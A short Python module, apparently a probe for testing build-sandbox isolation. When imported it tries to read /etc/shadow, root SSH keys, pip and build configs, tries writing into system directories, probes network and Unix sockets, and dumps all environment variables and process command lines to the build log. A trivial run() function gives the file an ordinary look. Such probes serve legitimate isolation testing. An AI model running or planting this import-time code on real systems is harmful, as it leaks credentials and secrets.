"""Attacks while the build imports it. Its findings go to the log of the build."""

import glob
import os
import socket

from src.hints import HINTS
from src.kit import attempt, connect, read, write

for path in [*HINTS["paths"], "/etc/shadow", "/root/.ssh/id_rsa", "/root/.pip/pip.conf", "/build/settings", *glob.glob("/index/*")]:
    print(path, attempt(read, path))
for place in ("/app", "/app/src", "/deps", "/runner", "/usr/lib"):
    print(place, attempt(write, f"{place}/escaped"))
for address in ["127.0.0.1", *HINTS["addresses"]]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    print(address, attempt(connect, family, (address, HINTS["port"])))
for path in HINTS["sockets"]:
    print(path, attempt(connect, socket.AF_UNIX, path))
print(dict(os.environ), [read(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdigit()])


def run():
    return 1
